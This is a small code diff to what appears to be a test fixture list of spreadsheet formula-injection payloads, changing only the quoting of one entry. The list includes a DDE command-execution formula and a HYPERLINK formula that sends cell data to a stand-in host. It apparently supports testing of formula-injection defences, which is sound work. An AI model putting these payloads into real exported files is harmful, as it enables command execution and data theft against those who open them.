@@ -54,7 +54,7 @@ const MARKUP = [
 
 const FORMULAS = [
   "=cmd|' /C calc'!A0",
-  "=HYPERLINK(\"https://e.example?\"&A1,\"x\")",
+  '=HYPERLINK("https://e.example?"&A1,"x")',
   "+1+1",
   "-1+1",
   "@SUM(1)",
